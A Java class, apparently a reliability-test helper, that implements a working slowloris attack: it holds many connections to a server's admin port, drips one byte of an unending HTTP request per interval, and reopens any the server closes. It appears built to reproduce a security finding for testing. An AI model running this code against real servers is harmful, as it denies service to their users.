package dev.echoport.reliability;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The slowloris of the admin-port finding: {@code n} connections that each send one byte of a request that never
 * ends every {@code interval}, from one thread. A connection the server has closed is noticed when it is next due to
 * drip, as the attacker would, and opened again at once, so the attack holds for as long as it runs.
 */
final class SlowDripAttack implements AutoCloseable {
    private static final byte[] REQUEST = "GET /health/live HTTP/1.1\r\nHost: admin\r\nX-Drip: "
            .getBytes(StandardCharsets.US_ASCII);
    private static final long TICK_MILLIS = 20;

    private final InetSocketAddress target;
    private final long intervalNanos;
    private final SocketChannel[] connections;
    private final long[] nextDrip;
    private final int[] sent;
    private final ByteBuffer scratch = ByteBuffer.allocate(4096);
    private final ScheduledExecutorService ticker = Executors.newSingleThreadScheduledExecutor(r -> {
        Thread t = new Thread(r, "slow-drip-attack");
        t.setDaemon(true);
        return t;
    });
    private final AtomicLong opened = new AtomicLong();
    private final AtomicLong closedByServer = new AtomicLong();
    private final AtomicLong bytesSent = new AtomicLong();

    private SlowDripAttack(InetSocketAddress target, int n, Duration interval) {
        this.target = target;
        this.intervalNanos = interval.toNanos();
        this.connections = new SocketChannel[n];
        this.nextDrip = new long[n];
        this.sent = new int[n];
    }

    /** Opens the {@code n} connections (their first bytes spread over one interval) and starts dripping. */
    static SlowDripAttack start(InetSocketAddress target, int n, Duration interval) {
        SlowDripAttack a = new SlowDripAttack(target, n, interval);
        a.ticker.execute(() -> {
            long now = System.nanoTime();
            for (int i = 0; i < n; i++) {
                a.open(i, now + a.intervalNanos * i / n);
            }
        });
        a.ticker.scheduleWithFixedDelay(a::tick, TICK_MILLIS, TICK_MILLIS, TimeUnit.MILLISECONDS);
        return a;
    }

    long opened() {
        return opened.get();
    }

    long closedByServer() {
        return closedByServer.get();
    }

    long bytesSent() {
        return bytesSent.get();
    }

    private void open(int i, long firstDrip) {
        try {
            SocketChannel ch = SocketChannel.open(target);
            ch.configureBlocking(false);
            connections[i] = ch;
            sent[i] = 0;
            nextDrip[i] = firstDrip;
            opened.incrementAndGet();
        } catch (IOException e) {
            connections[i] = null; // tried again on the next tick
        }
    }

    private void tick() {
        long now = System.nanoTime();
        for (int i = 0; i < connections.length; i++) {
            SocketChannel ch = connections[i];
            if (ch == null) {
                open(i, now);
                continue;
            }
            if (now - nextDrip[i] < 0) {
                continue;
            }
            try {
                scratch.clear();
                if (ch.read(scratch) < 0) { // whatever the server answered (a 408) is discarded; EOF means closed
                    throw new IOException("closed by the server");
                }
                byte b = sent[i] < REQUEST.length ? REQUEST[sent[i]] : (byte) 'a';
                if (ch.write(ByteBuffer.wrap(new byte[]{b})) == 1) {
                    sent[i]++;
                    bytesSent.incrementAndGet();
                }
                nextDrip[i] = now + intervalNanos;
            } catch (IOException closed) {
                closedByServer.incrementAndGet();
                closeQuietly(ch);
                open(i, now);
            }
        }
    }

    @Override
    public void close() {
        ticker.shutdownNow();
        try {
            ticker.awaitTermination(10, TimeUnit.SECONDS);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        for (SocketChannel ch : connections) {
            if (ch != null) {
                closeQuietly(ch);
            }
        }
    }

    private static void closeQuietly(SocketChannel ch) {
        try {
            ch.close();
        } catch (IOException ignored) {
            // closing an attacker's socket: nothing to report
        }
    }
}
